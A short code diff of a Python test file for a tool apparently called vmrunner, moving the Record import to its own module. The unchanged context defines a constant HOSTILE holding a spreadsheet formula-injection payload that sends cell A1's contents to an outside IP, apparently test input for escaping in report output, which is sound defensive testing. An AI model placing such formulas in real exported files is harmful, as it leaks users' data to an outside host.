@@ -13,7 +13,8 @@ import pytest
 
 from vmrunner.cli.main import main
 from vmrunner.cli.report_cmd import cell
-from vmrunner.manager.history import History, Record
+from vmrunner.manager.history import History
+from vmrunner.manager.record import Record
 
 HOSTILE = '=HYPERLINK("http://192.0.2.1/"&A1,"x")/r'
 Run = Callable[..., tuple[int, str, str]]
